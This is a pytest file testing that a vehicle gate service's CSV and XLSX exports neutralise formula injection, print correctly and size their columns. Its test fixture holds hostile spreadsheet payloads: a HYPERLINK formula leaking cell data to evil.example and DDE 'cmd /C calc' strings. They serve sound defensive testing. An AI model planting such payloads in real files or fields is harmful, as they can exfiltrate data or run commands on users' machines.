"""Exports: no text becomes a formula (issue 15 item 4) and the workbooks print (item 17)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DAY = "2024-11-15T09:30:00+08:00"
EVIL = {
    "cargo": '=HYPERLINK("http://evil.example/?leak="&A1,"点此")',
    "haulier": "@SUM(1+1)*cmd|' /C calc'!A0",
    "enterprise": "+cmd|' /C notepad'!A0",
    "override": "-2+3+cmd|' /C calc'!A0",
    "note": "=1+2",
    "tab": "\t=1+2",
}


def _csv(raw: bytes) -> list[list[str]]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def _book(raw: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(raw))


def _no_formula(book) -> None:  # type: ignore[no-untyped-def]
    """No cell of any sheet is a formula, and no text cell starts like one."""
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (ws.title, cell.value)


@pytest.fixture
async def evil_world(client, admin):
    async def put(path, body):
        resp = await client.put(path, json=body, headers=admin)
        assert resp.status in (200, 201), await resp.text()

    await put("/api/v1/enterprises/e-evil", {"name": EVIL["enterprise"], "industry": "steel", "county": "襄汾县",
                                             "zone_id": "xiangfen", "retrofit_completed_on": "2024-06-01",
                                             "grade": "A"})
    await put("/api/v1/gates/g-evil", {"name": "1号门", "enterprise_id": "e-evil", "zone_id": "xiangfen"})
    await put("/api/v1/vehicles/晋LA1234", {"plate_color": "yellow", "emission_stage": 5, "fuel_type": "diesel",
                                            "vehicle_class": "heavy_truck", "haulier": EVIL["haulier"],
                                            "registered_on": "2019-04-02"})
    await put("/api/v1/vehicles/晋LC3333", {"plate_color": "yellow", "emission_stage": 3, "fuel_type": "diesel",
                                            "vehicle_class": "heavy_truck"})
    resp = await client.post("/api/v1/gates/g-evil/passages", headers=admin, json={
        "plate": "晋LA1234", "direction": "in", "at": DAY, "cargo": EVIL["cargo"], "tonnes": 32.5})
    assert resp.status == 201, await resp.text()
    denied = await (await client.post("/api/v1/gates/g-evil/passages", headers=admin, json={
        "plate": "晋LC3333", "direction": "in", "at": DAY, "cargo": EVIL["tab"]})).json()
    assert denied["decision"] == "deny"
    resp = await client.post("/api/v1/gates/g-evil/passages", headers=admin, json={
        "plate": "晋LC3333", "direction": "in", "at": DAY, "overrides": denied["passage_id"],
        "override_reason": EVIL["override"]})
    assert resp.status == 201, await resp.text()
    return admin


async def test_ledger_csv_neutralises_formulas_and_keeps_numbers(client, evil_world):
    resp = await client.get("/api/v1/passages?format=csv&gate_id=g-evil", headers=evil_world)
    assert resp.status == 200
    raw = await resp.read()
    rows = _csv(raw)
    header = rows[0]
    col = {h: i for i, h in enumerate(header)}
    cargo = {r[col["货物名称"]] for r in rows[1:]}
    assert "'" + EVIL["cargo"] in cargo and "'" + EVIL["tab"] in cargo
    assert {r[col["车队名称"]] for r in rows[1:]} >= {"'" + EVIL["haulier"]}
    assert {r[col["企业"]] for r in rows[1:]} == {"'" + EVIL["enterprise"]}
    for r in rows[1:]:
        for value in r:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # Text fields are quoted; the tonnes stay a bare number that Excel reads as one.
    text = raw.decode("utf-8-sig")
    assert '"\'=HYPERLINK(' in text
    assert ",32.5," in text


async def test_ledger_xlsx_neutralises_formulas_and_keeps_numbers_and_dates(client, evil_world):
    resp = await client.get("/api/v1/passages?format=xlsx&gate_id=g-evil", headers=evil_world)
    assert resp.status == 200 and resp.content_type == XLSX
    book = _book(await resp.read())
    _no_formula(book)
    ws = book.active
    header = [c.value for c in ws[1]]
    col = {h: i for i, h in enumerate(header)}
    rows = [r for r in ws.iter_rows(min_row=2, values_only=True)]
    line = next(i for i, r in enumerate(rows, start=2) if r[col["车牌号码"]] == "晋LA1234")
    loaded = rows[line - 2]
    assert loaded[col["货物名称"]] == "'" + EVIL["cargo"]
    assert loaded[col["车队名称"]] == "'" + EVIL["haulier"]
    assert loaded[col["企业"]] == "'" + EVIL["enterprise"]
    assert loaded[col["运输量(吨)"]] == 32.5  # a number, not text
    assert isinstance(loaded[col["进出时间"]], datetime)
    # 注册登记日期 is a real date (issue 15 item 17), not text.
    assert loaded[col["注册登记日期"]] == datetime(2019, 4, 2)
    assert ws.cell(row=line, column=col["注册登记日期"] + 1).is_date


async def test_report_exports_neutralise_formulas(client, evil_world, token):
    ecology = await token("ecology")
    q = "/api/v1/reports/clean-transport?from=2024-11-01&to=2024-11-30"
    rows = _csv(await (await client.get(q + "&format=csv", headers=ecology)).read())
    names = {r[1] for r in rows[1:]}
    assert "'" + EVIL["enterprise"] in names
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows[1:] for v in r)
    months = _csv(await (await client.get(q + "&format=csv&view=months", headers=ecology)).read())
    assert {r[1] for r in months[1:]} == {"'" + EVIL["enterprise"]}
    for view in ("summary", "months"):
        resp = await client.get(q + f"&format=xlsx&view={view}", headers=ecology)
        assert resp.status == 200
        book = _book(await resp.read())
        _no_formula(book)
        ws = book.worksheets[0]
        assert any(r[1] == "'" + EVIL["enterprise"] for r in ws.iter_rows(min_row=2, values_only=True))
    # The enterprise's own export goes through the same writer.
    own = await token("enterprise", enterprise_id="e-evil")
    book = _book(await (await client.get(q + "&format=xlsx", headers=own)).read())
    _no_formula(book)


async def test_blacklist_exports_neutralise_formulas(client, token):
    police = await token("police")
    for plate, note in (("晋LA1234", EVIL["note"]), ("晋LB2222", EVIL["haulier"]), ("晋LC3333", "-5")):
        resp = await client.post("/api/v1/blacklist", json={"plate": plate, "reason": "over_limit", "note": note},
                                 headers=police)
        assert resp.status == 201, await resp.text()
    rows = _csv(await (await client.get("/api/v1/blacklist?format=csv", headers=police)).read())
    notes = {r[0]: r[4] for r in rows[1:]}
    assert notes == {"晋LA1234": "'=1+2", "晋LB2222": "'" + EVIL["haulier"], "晋LC3333": "'-5"}
    book = _book(await (await client.get("/api/v1/blacklist?format=xlsx", headers=police)).read())
    _no_formula(book)
    assert {r[0]: r[4] for r in book.active.iter_rows(min_row=2, values_only=True)}["晋LA1234"] == "'=1+2"


def test_neutralise_leaves_numbers_and_plain_text():
    from sheets import neutralise

    assert neutralise(-3.5) == -3.5 and neutralise(-2) == -2
    assert neutralise("晋LA1234") == "晋LA1234" and neutralise("") == ""
    assert [neutralise(s) for s in ("=1", "+1", "-1", "@A", "\t=1", "\r=1")] == \
        ["'=1", "'+1", "'-1", "'@A", "'\t=1", "'\r=1"]


# ---- printing (item 17) -----------------------------------------------------------------------------------

async def test_workbooks_print_landscape_fit_to_width_with_header_repeated(client, evil_world, token):
    ecology = await token("ecology")
    for path in ("/api/v1/passages?format=xlsx",
                 "/api/v1/reports/clean-transport?from=2024-11-01&to=2024-11-30&format=xlsx",
                 "/api/v1/blacklist?format=xlsx"):
        book = _book(await (await client.get(path, headers=ecology)).read())
        for ws in book.worksheets:
            assert ws.page_setup.orientation == "landscape", path
            assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1, path
            assert ws.print_title_rows in ("1:1", "$1:$1"), path
            assert ws.freeze_panes == "A2", path
            assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), path


async def test_column_widths_fit_chinese_text(client, evil_world, token):
    book = _book(await (await client.get(
        "/api/v1/reports/clean-transport?from=2024-11-01&to=2024-11-30&format=xlsx", headers=await token("ecology"),
    )).read())
    ws = book["汇总"]
    header = [c.value for c in ws[1]]
    # "新能源及清洁能源车辆运输量(吨)": 14 Chinese characters and 3 others, 31 columns of text.
    col = header.index("新能源及清洁能源车辆运输量(吨)")
    from openpyxl.utils import get_column_letter

    assert ws.column_dimensions[get_column_letter(col + 1)].width >= 31
    zone = header.index("所在区域")  # 襄汾经济技术开发区: 9 characters, 18 columns
    assert ws.column_dimensions[get_column_letter(zone + 1)].width >= 18


async def test_months_button_gives_the_monthly_workbook(client, evil_world, token):
    ecology = await token("ecology")
    q = "/api/v1/reports/clean-transport?from=2024-10-01&to=2024-12-31&format=xlsx"
    default = _book(await (await client.get(q, headers=ecology)).read())
    assert default.sheetnames == ["汇总", "月度"]
    resp = await client.get(q + "&view=months", headers=ecology)
    assert "months" in resp.headers["Content-Disposition"]
    monthly = _book(await resp.read())
    assert monthly.sheetnames == ["月度", "2024-10月", "2024-11月", "2024-12月"]
    nov = [r for r in monthly["2024-11月"].iter_rows(min_row=2, values_only=True)]
    assert [r for r in monthly["月度"].iter_rows(min_row=2, values_only=True) if r[2] == "2024-11"] == nov
    assert [(r[0], r[2]) for r in nov] == [("e-evil", "2024-11")] and nov[0][5] >= 1
    assert monthly["2024-11月"].cell(row=2, column=4).value == datetime(2024, 11, 1)
    assert date(2024, 11, 30) == monthly["2024-11月"].cell(row=2, column=5).value.date()


def test_inspection_packet_tables_neutralise_formulas():
    from openpyxl import Workbook

    from gate_service.inspection.packet_xlsx import _table

    ws = Workbook().active
    _table(ws, ("人工放行", ["车牌", "原因", "吨"], [["晋LA1234", EVIL["override"], -1.5]]), 1)
    assert ws.cell(3, 2).value == "'" + EVIL["override"] and ws.cell(3, 2).data_type == "s"
    assert ws.cell(3, 3).value == -1.5  # numbers stay numbers
